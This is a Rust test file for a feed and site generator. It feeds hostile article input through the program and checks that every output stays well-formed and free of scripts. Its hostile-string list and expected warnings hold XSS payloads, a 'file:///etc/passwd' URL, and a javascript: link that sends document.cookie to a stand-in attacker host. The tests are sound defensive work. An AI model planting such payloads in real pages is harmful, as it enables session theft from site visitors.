//! Hostile input (issue 11): whatever the articles hold, every output is well-formed,
//! holds no character XML 1.0 forbids (nor a reference to one), and carries no live
//! script, event handler or URL other than http(s) (and mailto: for links).
//!
//! Two kinds of test: a property test that feeds arbitrary items with hostile strings
//! through normalize and every writer, and the `tests/hostile/` corpus, one file per
//! hazard, built with the real binary.

use proptest::prelude::*;
use wirefeed::item::{Author, Body, Credit, Item, Photo};

/// Whether XML 1.0 allows `c`.
fn xml_char(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}' | '\u{10000}'..)
}

/// The first numeric character reference in `text` (`&#1;`, `&#x1B;`) to a character
/// XML forbids, if any.
fn forbidden_reference(text: &str) -> Option<String> {
    let mut rest = text;
    while let Some(i) = rest.find("&#") {
        let after = &rest[i + 2..];
        let (digits, radix) = match after.strip_prefix(['x', 'X']) {
            Some(hex) => (hex, 16),
            None => (after, 10),
        };
        let end = digits.find(';').unwrap_or(digits.len());
        if let Ok(n) = u32::from_str_radix(&digits[..end], radix)
            && !char::from_u32(n).is_some_and(xml_char)
        {
            return Some(rest[i..i + 2 + end + usize::from(radix == 16) + 1].to_string());
        }
        rest = after;
    }
    None
}

/// A URL a published page may point at.
fn safe_url(value: &str, link: bool) -> bool {
    let v = value.trim().to_ascii_lowercase();
    v.starts_with("http://") || v.starts_with("https://") || (link && v.starts_with("mailto:"))
}

/// Panics unless the HTML `html` (a page, or an item's content) has no script, no
/// event handler and no URL other than http(s) (mailto: for links).
fn assert_inert_html(name: &str, html: &str) {
    let doc = scraper::Html::parse_document(html);
    for node in doc.root_element().descendants() {
        let Some(el) = node.value().as_element() else {
            continue;
        };
        assert!(
            !matches!(el.name(), "script" | "iframe" | "object" | "embed"),
            "{name}: <{}> in {html}",
            el.name()
        );
        for (attr, value) in el.attrs() {
            assert!(!attr.starts_with("on"), "{name}: event handler {attr}={value:?}");
            let ok = match attr {
                "href" => safe_url(value, true) || value.starts_with('#') || is_local(value),
                "src" | "poster" | "cite" | "action" | "formaction" => safe_url(value, false),
                "srcset" => value.split(',').all(|c| safe_url(c, false)),
                // Other attributes hold text (`title`, `alt`, `content`), where
                // "javascript:" is only words.
                _ => true,
            };
            assert!(ok, "{name}: <{} {attr}={value:?}>", el.name());
        }
    }
}

/// A relative link between the site's own pages (`rss.xml`, `../../index.html`, `tags/x/`).
fn is_local(href: &str) -> bool {
    !href.contains(':') && !href.starts_with("//")
}

/// Panics unless the output file `name` is well-formed for its type, free of
/// characters XML forbids and of references to them, and inert.
fn assert_safe_output(name: &str, bytes: &[u8]) {
    let text = std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{name}: not UTF-8: {e}"));
    if let Some(c) = text.chars().find(|&c| !xml_char(c)) {
        panic!("{name}: holds U+{:04X}", c as u32);
    }
    // In JSON, `&#1;` is text; in XML and HTML it is a reference.
    if !name.ends_with(".json")
        && let Some(r) = forbidden_reference(text)
    {
        panic!("{name}: holds the reference {r}");
    }
    let mut contents = Vec::new();
    if name.ends_with(".xsl") {
        roxmltree::Document::parse(text).unwrap_or_else(|e| panic!("{name}: not XML: {e}"));
    }
    if name.ends_with(".xml") {
        let doc = roxmltree::Document::parse(text).unwrap_or_else(|e| panic!("{name}: not XML: {e}\n{text}"));
        for node in doc.descendants() {
            if let Some(t) = node.text()
                && (node.has_tag_name("encoded")
                    || node.has_tag_name("content") && node.attribute("type") == Some("html"))
            {
                contents.push(t.to_string());
            }
            for a in node.attributes() {
                let v = a.value();
                if matches!(a.name(), "href" | "url" | "src") {
                    assert!(safe_url(v, true) || is_local(v), "{name}: {}={v:?}", a.name());
                }
            }
            if node.has_tag_name("link") && node.text().is_some_and(|t| !t.trim().is_empty()) {
                let t = node.text().unwrap_or_default();
                assert!(safe_url(t, true), "{name}: <link>{t}</link>");
            }
        }
    }
    if name.ends_with(".json") && !name.starts_with('.') {
        let value: serde_json::Value =
            serde_json::from_str(text).unwrap_or_else(|e| panic!("{name}: not JSON: {e}"));
        let mut strings = Vec::new();
        collect_strings(&value, &mut strings);
        for s in &strings {
            if let Some(c) = s.chars().find(|&c| !xml_char(c)) {
                panic!("{name}: a string holds U+{:04X}", c as u32);
            }
        }
        for item in value["items"].as_array().into_iter().flatten() {
            // Other strings are text, where `&#1;` is five characters; HTML is not.
            if let Some(h) = item["content_html"].as_str() {
                assert!(forbidden_reference(h).is_none(), "{name}: {h}");
                contents.push(h.to_string());
            }
            for key in ["url", "image", "external_url"] {
                if let Some(u) = item[key].as_str() {
                    assert!(safe_url(u, true), "{name}: {key} {u}");
                }
            }
        }
    }
    if matches!(name.rsplit('.').next(), Some("xml" | "json")) && !name.starts_with('.') {
        feed_rs::parser::parse(bytes).unwrap_or_else(|e| panic!("{name}: feed-rs: {e}"));
    }
    if name.ends_with(".html") {
        assert_inert_html(name, text);
    }
    for html in contents {
        assert_inert_html(name, &html);
    }
}

fn collect_strings(v: &serde_json::Value, out: &mut Vec<String>) {
    match v {
        serde_json::Value::String(s) => out.push(s.clone()),
        serde_json::Value::Array(a) => a.iter().for_each(|x| collect_strings(x, out)),
        serde_json::Value::Object(o) => o.iter().for_each(|(k, x)| {
            out.push(k.clone());
            collect_strings(x, out);
        }),
        _ => {}
    }
}

/// Pieces hostile strings are made of.
const HOSTILE: &[&str] = &[
    "\u{0}",
    "\u{1}",
    "\u{8}",
    "\u{b}",
    "\u{c}",
    "\u{1b}",
    "\u{7f}",
    "\u{85}",
    "\u{fffe}",
    "\u{ffff}",
    "\u{2028}",
    "&#1;",
    "&#x1b;",
    "&#0;",
    "&#xFFFE;",
    "&amp;#1;",
    "]]>",
    "<![CDATA[",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<svg><script>alert(1)</script></svg>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&",
    "<",
    ">",
    "\"",
    "'",
    " ",
    "\n",
    "é",
    "𝔘",
];

/// A string of hostile pieces and arbitrary characters.
fn hostile() -> impl Strategy<Value = String> {
    prop::collection::vec(
        prop_oneof![
            3 => prop::sample::select(HOSTILE).prop_map(str::to_string),
            1 => any::<char>().prop_map(|c| c.to_string()),
            1 => "[a-z ]{1,8}",
        ],
        0..8,
    )
    .prop_map(|parts| parts.concat())
}

/// A URL field: hostile text, a dangerous scheme, or a plain URL.
fn url() -> impl Strategy<Value = Option<String>> {
    prop::option::of(prop_oneof![
        hostile(),
        Just("javascript:alert(1)".to_string()),
        Just(" JAVASCRIPT:alert(1)".to_string()),
        Just("data:image/png;base64,AA".to_string()),
        Just("/relative/path".to_string()),
        Just("https://ok.example/a?b=1&c=2".to_string()),
        hostile().prop_map(|s| format!("https://ok.example/{s}")),
    ])
}

fn author() -> impl Strategy<Value = Author> {
    (hostile(), prop::option::of(hostile()), url()).prop_map(|(name, email, url)| {
        let mut a = Author::named(name);
        a.email = email;
        a.url = url;
        a
    })
}

fn photo() -> impl Strategy<Value = Photo> {
    (
        hostile(),
        prop::option::of(hostile()),
        prop::option::of(hostile()),
        url(),
    )
        .prop_map(|(caption, name, org, url)| {
            let mut p = Photo::new(caption, Credit::new(name, org));
            p.url = url;
            p
        })
}

fn item() -> impl Strategy<Value = Item> {
    (
        (hostile(), hostile(), url(), -2_000_000_000i64..4_000_000_000i64),
        (
            prop::collection::vec(author(), 0..3),
            prop::option::of(hostile()),
            prop_oneof![
                prop::collection::vec(hostile(), 0..3).prop_map(Body::Paragraphs),
                hostile().prop_map(Body::Html),
            ],
            prop::collection::vec(photo(), 0..3),
            prop::collection::vec(hostile(), 0..4),
        ),
    )
        .prop_map(
            |((id, title, url, secs), (authors, summary, body, photos, tags))| {
                let date = chrono::DateTime::from_timestamp(secs, 0)
                    .unwrap_or_default()
                    .fixed_offset();
                let mut item = Item::new(format!("id-{id}"), title, date);
                item.url = url;
                item.authors = authors;
                item.summary = summary;
                item.body = body;
                item.photos = photos;
                item.tags = tags;
                item.source = "hostile.md".into();
                item
            },
        )
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]

    /// Issue 11, item 2: whatever the items hold, every file of the site parses (feed-rs
    /// and roxmltree for XML, serde_json and feed-rs for JSON Feed) and holds no
    /// forbidden character, no reference to one, no script and no unsafe URL.
    #[test]
    fn every_writer_is_xml_safe_for_any_item(items in prop::collection::vec(item(), 1..4)) {
        let cfg = wirefeed::Config::for_site("https://news.example/", chrono_tz::UTC);
        let feed = wirefeed::feed_for(&cfg, items, &mut Vec::new());
        let templates = wirefeed::template::Templates::load(None).unwrap();
        let files = wirefeed::write::site::files(
            &feed,
            &templates,
            &wirefeed::write::site::Options::new(2, true),
        )
        .unwrap();
        prop_assert!(files.iter().any(|(n, _)| n == "rss.xml"));
        for (name, bytes) in &files {
            assert_safe_output(name, bytes);
        }
    }
}

#[test]
fn the_reference_check_finds_what_it_should() {
    assert_eq!(forbidden_reference("a &#1; b").as_deref(), Some("&#1;"));
    assert_eq!(forbidden_reference("&#x1B;").as_deref(), Some("&#x1B;"));
    assert_eq!(forbidden_reference("&#xFFFE;").as_deref(), Some("&#xFFFE;"));
    assert_eq!(forbidden_reference("&#10; &#x20AC; &amp;#1;"), None);
}

/// The `tests/hostile/` corpus, built with the real binary into `out/`.
fn build_corpus() -> (crate::support::FeedTest, std::process::Output) {
    let t = crate::support::FeedTest::new();
    crate::support::copy_dir(&crate::support::repo().join("tests/hostile"), t.path(), &|p| {
        p.ends_with("fuzz")
    });
    let out = t.run(&["build", "--out", "out"]);
    (t, out)
}

/// Issue 11: one file per hazard beside a good article. The build succeeds (no article
/// is refused), says what it repaired or dropped and where, publishes the good article,
/// and every output is well-formed and inert.
#[test]
fn the_hostile_corpus_builds_safely() {
    let (t, out) = build_corpus();
    assert_eq!(out.status.code(), Some(0), "{}", crate::support::stderr(&out));
    let stderr = crate::support::stderr(&out);
    let refused = "is not allowed (only http and https, and mailto for links)";
    let expected = [
        "warning: ./articles/invalid-utf8.txt: line 9: invalid UTF-8, 1 byte sequence replaced with U+FFFD".to_string(),
        "warning: ./articles/invalid-utf8.txt: line 9: removed 2 control characters that XML cannot carry".to_string(),
        format!("warning: data-canonical.html: dropped the article's link \"data:text/html,<script>alert(1)</script>\": the scheme data: {refused}"),
        format!("warning: data-canonical.html: dropped a photo URL \"javascript:alert(1)\": the scheme javascript: {refused}"),
        format!("warning: javascript-link.md: dropped the article's link \"javascript:fetch('https://evil.example/?c='+document.cookie)\": the scheme javascript: {refused}"),
        format!("warning: javascript-link.md: dropped a photo URL \"javascript:alert(1)\": the scheme javascript: {refused}"),
        format!("warning: srcset-javascript.json: dropped a URL in the article's HTML \"javascript:alert(1)\": the scheme javascript: {refused}"),
        format!("warning: srcset-javascript.json: dropped a URL in the article's HTML \"data:image/svg+xml,<svg\": the scheme data: {refused}"),
        format!("warning: srcset-javascript.json: dropped a URL in the article's HTML \"vbscript:x\": the scheme vbscript: {refused}"),
        format!("warning: srcset-javascript.json: dropped a URL in the article's HTML \"javascript:alert(2)\": the scheme javascript: {refused}"),
        format!("warning: srcset-javascript.json: dropped a URL in the article's HTML \"file:///etc/passwd\": the scheme file: {refused}"),
        format!("warning: srcset-javascript.json: dropped a URL in the article's HTML \"JaVaScRiPt:alert(3)\": the scheme javascript: {refused}"),
        "warning: char-refs.md: removed 5 characters XML cannot carry (control characters, written as escapes or character references)".to_string(),
        "warning: control-tags.json: removed 5 characters XML cannot carry (control characters, written as escapes or character references)".to_string(),
        "warning: year-9999.md: the publication date 9999-12-31T23:00:00+00:00 is more than 5 years ahead; check the article's date".to_string(),
        // The embargo (src/guard.rs) holds it back, too.
        "warning: 1 item dated in the future is held back until its time; it is due 9999-12-31T23:00:00+00:00 (--build-future or build_future = true publishes them now)".to_string(),
    ];
    let warnings: Vec<&str> = stderr.lines().filter(|l| l.starts_with("warning: ")).collect();
    let mut expected_sorted: Vec<&str> = expected.iter().map(String::as_str).collect();
    expected_sorted.sort_unstable();
    let mut got_sorted = warnings.clone();
    got_sorted.sort_unstable();
    assert_eq!(got_sorted, expected_sorted);

    let outputs = crate::support::files_under(&t.path().join("out"));
    assert!(outputs.iter().any(|f| f == "rss.xml"), "{outputs:?}");
    for rel in &outputs {
        let bytes = std::fs::read(t.path().join("out").join(rel)).unwrap();
        assert_safe_output(rel, &bytes);
    }

    // Every article is published, the good one among them, text intact — except the
    // one dated in the year 9999, which the embargo holds back until its time.
    let feed: serde_json::Value = serde_json::from_str(&t.read("out/feed.json")).unwrap();
    let items = feed["items"].as_array().unwrap();
    let titles: std::collections::BTreeSet<&str> = items.iter().filter_map(|i| i["title"].as_str()).collect();
    assert_eq!(
        titles,
        [
            "A good article beside the hostile ones",
            "A hundred thousand nested blockquotes",
            "A page whose canonical link is a data URL",
            "Café owner Zoë reopens",
            "Nested divs in body_html",
            "Nested lists",
            "Nine thousand nested divs",
            "Numeric references to control characters",
            "Raw HTML with event handlers and scripts",
            "Scripts inside srcset and other URL attributes",
            "Stored script as the item link",
            "Tags and authors with control characters",
        ]
        .into_iter()
        .collect()
    );
    let item = |title: &str| {
        items
            .iter()
            .find(|i| i["title"] == title)
            .unwrap_or_else(|| panic!("{title}"))
    };
    let html = |title: &str| {
        item(title)["content_html"]
            .as_str()
            .unwrap_or_default()
            .to_string()
    };
    assert_eq!(
        item("A good article beside the hostile ones")["url"],
        "https://news.example.com/good/"
    );
    // The links that were scripts are gone: those items link to their own page.
    let page = item("Stored script as the item link")["url"]
        .as_str()
        .unwrap()
        .to_string();
    let rel = page.strip_prefix("https://news.example.com/items/").unwrap();
    assert!(rel.ends_with(".html"), "{page}");
    assert!(
        t.path().join("out/items").join(rel).is_file(),
        "{page} was not written"
    );
    assert_eq!(
        item("Tags and authors with control characters")["tags"],
        serde_json::json!(["world", "politics", "plain"])
    );
    assert_eq!(
        item("Tags and authors with control characters")["authors"][0]["name"],
        "Ann Lee"
    );
    assert!(
        html("Café owner Zoë reopens").contains("A bad byte: \u{FFFD} here, a bell and an escape [0m there.")
    );
    assert!(
        html("Numeric references to control characters")
            .contains("Escape sequences[31m and a NUL\u{FFFD} and  in the text.")
    );
    // Nesting is capped, the text kept.
    let quotes = html("A hundred thousand nested blockquotes");
    assert_eq!(quotes.matches("<blockquote>").count(), 32);
    assert!(quotes.contains("deep"));
    let lists = html("Nested lists");
    assert_eq!(lists.matches("<ul>").count(), 32);
    assert!(lists.contains("deep"));
    let divs = html("Nested divs in body_html");
    assert_eq!(divs.matches("<div>").count(), 128);
    assert!(divs.contains("deep"));
    assert!(html("Nine thousand nested divs").contains("deep"));
}

/// Runs one kept fuzz input the way its target does (`fuzz/fuzz_targets/<target>.rs`).
fn run_fuzz_input(target: &str, data: &[u8]) {
    use wirefeed::load::{Context, Loader, Source, html, json, markdown, text};
    let cfg = wirefeed::Config::for_site("https://news.example.com/", chrono_tz::UTC);
    let (loader, name, data): (&dyn Loader, &str, &[u8]) = match target {
        "load_text" => (&text::TextLoader, "a.txt", data),
        "load_markdown" => (&markdown::MarkdownLoader, "a.md", data),
        "load_json" => (&json::JsonLoader, "a.json", data),
        "load_html" => (&html::HtmlLoader, "a.html", data),
        "load_write" => {
            let Some((&pick, rest)) = data.split_first() else {
                return;
            };
            match pick % 4 {
                0 => (&text::TextLoader, "a.txt", rest),
                1 => (&markdown::MarkdownLoader, "a.md", rest),
                2 => (&json::JsonLoader, "a.json", rest),
                _ => (&html::HtmlLoader, "a.html", rest),
            }
        }
        other => panic!("no fuzz target {other}"),
    };
    let (input, _) = wirefeed::load::decode(data);
    let Ok(items) = loader.load(&Source::from_text(name, &input), &Context::new(&cfg, name)) else {
        return;
    };
    if target != "load_write" {
        return;
    }
    let feed = wirefeed::feed_for(&cfg, items, &mut Vec::new());
    let templates = wirefeed::template::Templates::load(None).unwrap();
    let files =
        wirefeed::write::site::files(&feed, &templates, &wirefeed::write::site::Options::new(2, true))
            .unwrap();
    for (path, bytes) in files {
        assert_safe_output(&path, &bytes);
    }
}

/// Issue 11, item 8: every input a fuzz target once failed on, kept under
/// `tests/hostile/fuzz/<target>/`, still loads (and for `load_write`, writes a safe
/// site) without a panic.
#[test]
fn fuzz_regressions() {
    let root = crate::support::repo().join("tests/hostile/fuzz");
    let mut ran = 0;
    for target in std::fs::read_dir(&root).unwrap() {
        let target = target.unwrap();
        let name = target.file_name().to_string_lossy().into_owned();
        for input in std::fs::read_dir(target.path()).unwrap() {
            let path = input.unwrap().path();
            let data = std::fs::read(&path).unwrap();
            let result = std::panic::catch_unwind(|| run_fuzz_input(&name, &data));
            assert!(result.is_ok(), "{} fails again", path.display());
            ran += 1;
        }
    }
    assert!(ran > 0, "no kept fuzz inputs under {}", root.display());
}
